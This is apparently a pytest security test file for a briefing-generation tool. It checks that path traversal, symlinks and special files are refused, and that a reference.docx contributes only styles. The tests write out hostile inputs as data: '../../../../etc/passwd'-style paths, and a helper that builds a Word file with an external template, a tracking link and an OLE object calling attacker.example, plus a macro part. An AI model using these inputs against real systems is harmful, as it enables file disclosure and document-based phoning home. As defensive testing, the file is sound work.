"""Nothing from outside: paths in brand and edition files stay in their folder tree, and a reference.docx
brings only its styles, numbering, theme and fonts into a briefing (no attached template, link or macro).
"""
from __future__ import annotations

import os
import re
import shutil
import zipfile
from pathlib import Path

import pytest

from briefing.cli import main
from briefing.render.docx.sanitize import external_targets
from hostile_run import MINIMAL, ROOT, clean, cli, snapshot

pytestmark = pytest.mark.timeout(240)


def _brand(tmp_path: Path) -> Path:
    brand = tmp_path / "brand"
    shutil.copytree(ROOT / "templates" / "qiantang", brand)
    return brand


def _build(tmp_path: Path, brand: Path, capsys, *extra: str) -> tuple[int, str, Path]:
    region = tmp_path / "region.yaml"
    region.write_text(MINIMAL, encoding="utf-8")
    out = tmp_path / "out"
    status = main(["build", str(region), "--brand", str(brand), "--out", str(out), *extra])
    err = capsys.readouterr().err
    assert clean(err), err
    return status, err, out


@pytest.mark.parametrize("written, words", [
    ("/etc/passwd", "is an absolute path"),
    ("{root}/logo.png", "is an absolute path"),
    ("../outside.png", "climbs out of the folder"),
    ("sub/../../outside.png", "climbs out of the folder"),
    ("link.png", "is a link leading outside the folder"),
])
def test_a_logo_from_outside_the_brand_folder_is_refused(tmp_path, capsys, written, words):
    brand = _brand(tmp_path)
    shutil.copy(brand / "logo.png", tmp_path / "outside.png")
    os.symlink(tmp_path / "outside.png", brand / "link.png")
    text = (brand / "_brand.yml").read_text(encoding="utf-8")
    (brand / "_brand.yml").write_text(text.replace("path: logo.png", f"path: {written.format(root=brand)}"),
                                      encoding="utf-8")
    status, err, out = _build(tmp_path, brand, capsys)
    assert status == 1 and words in err and "stays inside it" in err, err
    assert re.search(r"_brand\.yml:\d+:\d+: logo\.images\.tide\.path", err), err
    assert not out.exists()


@pytest.mark.parametrize("written", ["/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf", "../font.ttf"])
def test_a_font_from_outside_the_brand_folder_is_refused(tmp_path, capsys, written):
    brand = _brand(tmp_path)
    shutil.copy(ROOT / "briefing" / "fonts" / "NotoSans-Regular.ttf", tmp_path / "font.ttf")
    (brand / "_brand.yml").write_text(f"typography:\n  fonts:\n    - key: mine\n      path: {written}\n"
                                      "      family: Mine\n", encoding="utf-8")
    status, err, out = _build(tmp_path, brand, capsys)
    assert status == 1 and "typography.fonts[0].path" in err and "stays inside it" in err, err


def _edition(folder: Path, region: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "visit.yaml"
    path.write_text("format: 1\nedition:\n  id: visit\n  region: " + region + "\n  audience: {zh: 甲, en: A}\n"
                    "  date: 2023-06\n  sections: [industries]\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("region, words", [
    ("/etc/passwd", "is an absolute path"),
    ("../../../../../../etc/passwd", "leads outside the content folder"),
    ("../../secret.yaml", "leads outside the content folder"),
    ("visit.yaml", "names this edition itself"),
    ("../notes.txt", "is not a .yaml file"),
    ("../pipe.yaml", "is a named pipe"),
    ("../folder.yaml", "is a folder"),
])
def test_an_edition_names_only_a_region_in_its_folder_tree(tmp_path, capsys, region, words):
    data = tmp_path / "project" / "data"
    data.mkdir(parents=True)
    (tmp_path / "secret.yaml").write_text("password: hunter2\n")
    (data / "notes.txt").write_text("x\n")
    (data / "folder.yaml").mkdir()
    os.mkfifo(data / "pipe.yaml")
    edition = _edition(data / "editions", region)
    out = tmp_path / "out"
    status = main(["build", str(edition), "--out", str(out)])
    err = capsys.readouterr().err
    assert status == 1 and clean(err) and words in err, err
    assert "hunter2" not in err and "root:" not in err
    assert len([line for line in err.splitlines() if line.strip()]) <= 2, err  # one message, and the count
    assert not out.exists()


def _hostile_reference(source: Path, target: Path) -> None:
    """Copy `source` adding an external attached template, a macro part, an embedded object and a link."""
    with zipfile.ZipFile(source) as z:
        parts = {name: z.read(name) for name in z.namelist()}
    settings = parts["word/settings.xml"].decode("utf-8")
    settings = re.sub(r"(<w:settings\b[^>]*>)", r'\1<w:attachedTemplate r:id="rIdEvil"/>'
                      r'<w:docVars><w:docVar w:name="x" w:val="y"/></w:docVars>', settings, count=1)
    if "xmlns:r=" not in settings.split(">", 2)[1] + settings[:400]:
        settings = settings.replace("<w:settings ", '<w:settings xmlns:r="http://schemas.openxmlformats.org/'
                                    'officeDocument/2006/relationships" ', 1)
    parts["word/settings.xml"] = settings.encode("utf-8")
    parts["word/_rels/settings.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdEvil" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://attacker.example/template.dotm" TargetMode="External"/></Relationships>')
    rels = parts["word/_rels/document.xml.rels"].decode("utf-8")
    rels = rels.replace("</Relationships>",
                        '<Relationship Id="rIdLink" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                        'relationships/hyperlink" Target="http://attacker.example/track" TargetMode="External"/>'
                        '<Relationship Id="rIdOle" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                        'relationships/oleObject" Target="http://attacker.example/object.bin" '
                        'TargetMode="External"/>'
                        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
                        'vbaProject" Target="vbaProject.bin"/></Relationships>')
    parts["word/_rels/document.xml.rels"] = rels.encode("utf-8")
    parts["word/vbaProject.bin"] = b"MACRO" * 100
    types = parts["[Content_Types].xml"].decode("utf-8")
    parts["[Content_Types].xml"] = types.replace(
        "</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>').encode()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)


def test_a_reference_docx_that_phones_home_brings_none_of_it(tmp_path, capsys):
    brand = _brand(tmp_path)
    _hostile_reference(ROOT / "templates" / "qiantang" / "reference.docx", brand / "reference.docx")
    assert "http://attacker.example/template.dotm" in external_targets(brand / "reference.docx")
    status, err, out = _build(tmp_path, brand, capsys, "--format", "docx")
    assert status == 0, err
    for docx_file in out.glob("*.docx"):
        assert not [t for t in external_targets(docx_file) if "attacker" in t], docx_file
        with zipfile.ZipFile(docx_file) as z:
            names = z.namelist()
            blob = b"".join(z.read(n) for n in names)
        assert b"attacker.example" not in blob and b"attachedTemplate" not in blob and b"docVar" not in blob
        assert not [n for n in names if "vba" in n.lower() or "customXml" in n or "embeddings" in n], names


def test_the_crafted_reference_is_also_clean_when_converted_by_word_processors(tmp_path, capsys):
    """The styles still come from the reference: the heading face the designer chose is kept."""
    brand = _brand(tmp_path)
    _hostile_reference(ROOT / "templates" / "qiantang" / "reference.docx", brand / "reference.docx")
    status, err, out = _build(tmp_path, brand, capsys, "--format", "docx", "--lang", "en")
    assert status == 0, err
    with zipfile.ZipFile(out / "minimal-en.docx") as z:
        styles = z.read("word/styles.xml")
        settings = z.read("word/settings.xml")
    with zipfile.ZipFile(brand / "reference.docx") as z:
        original = z.read("word/styles.xml")
    assert re.findall(rb'w:styleId="([^"]+)"', original)[:5] == re.findall(rb'w:styleId="([^"]+)"', styles)[:5]
    assert b"attachedTemplate" not in settings


def test_a_reference_docx_linked_from_outside_is_refused(tmp_path, capsys):
    brand = _brand(tmp_path)
    shutil.move(brand / "reference.docx", tmp_path / "elsewhere.docx")
    os.symlink(tmp_path / "elsewhere.docx", brand / "reference.docx")
    status, err, out = _build(tmp_path, brand, capsys)
    assert status == 1 and "reference.docx" in err and "outside the folder" in err, err


def test_a_brand_error_quotes_no_more_than_an_excerpt(tmp_path):
    """A brand whose header is a whole file's worth of text: the message shows a short excerpt only."""
    brand = _brand(tmp_path)
    secret = "SECRET-LINE " * 5000
    with (brand / "_brand.yml").open("a", encoding="utf-8") as f:
        f.write(f"\nbogus: {secret}\n")
    region = tmp_path / "region.yaml"
    region.write_text(MINIMAL, encoding="utf-8")
    before = snapshot(tmp_path / "out")
    run = cli("build", str(region), "--brand", str(brand), "--out", str(tmp_path / "out"))
    assert run.returncode == 1 and clean(run.stderr), run.stderr
    assert len(run.stderr) < 2000 and run.stderr.count("SECRET-LINE") <= 5, run.stderr[:3000]
    assert snapshot(tmp_path / "out") == before
